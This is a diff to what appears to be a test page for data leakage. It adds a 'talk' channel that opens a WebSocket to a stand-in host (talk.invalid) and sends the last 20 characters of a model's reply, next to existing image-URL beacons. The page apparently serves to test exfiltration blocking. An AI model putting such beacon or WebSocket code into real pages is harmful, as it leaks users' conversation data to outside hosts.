@@ -36,6 +36,11 @@ const page = `<!doctype html><meta charset="utf-8"><title>leaks</title>
   const others = {
     // As a page that renders a picture of the model's reply.
     render: () => add('img', { src: 'https://render.invalid/?d=' + said.slice(-20) }),
+    // What is refused never opens, and what never opens sends nothing.
+    talk: () => {
+      const socket = new WebSocket('wss://talk.invalid/');
+      socket.onopen = () => socket.send(said.slice(-20));
+    },
     everything: () => Object.values(ways).forEach((send) => send()),
     late: () => setTimeout(ways.image, 300),
     allowed: () => add('img', { src: inUrl('allowed') }),
